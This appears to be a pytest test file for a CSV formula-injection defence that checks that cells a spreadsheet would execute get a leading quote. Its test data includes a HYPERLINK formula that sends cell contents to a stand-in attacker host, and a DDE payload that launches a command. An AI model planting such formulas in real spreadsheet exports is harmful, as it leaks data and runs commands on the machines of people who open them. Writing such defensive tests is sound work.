"""CSV cells that a spreadsheet would run as formulas are shown as text."""

import csv
import io

import pytest

from app.csvcells import safe_cell, safe_row


@pytest.mark.parametrize(
    "alias",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(alias):
    assert safe_cell(alias) == "'" + alias


@pytest.mark.parametrize("value", ["alice", "Bob Smith", "a=b", "1+1", "", "'quoted"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-3, 0, 2.5, None, True])
def test_numbers_and_other_values_are_unchanged(value):
    assert safe_cell(value) is value


def test_a_row_written_with_the_csv_module_has_no_formula_cell():
    out = io.StringIO()
    csv.writer(out).writerow(safe_row(["=cmd|' /C calc'!A0", "alice", -2, "@x"]))
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert cells == ["'=cmd|' /C calc'!A0", "alice", "-2", "'@x"]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
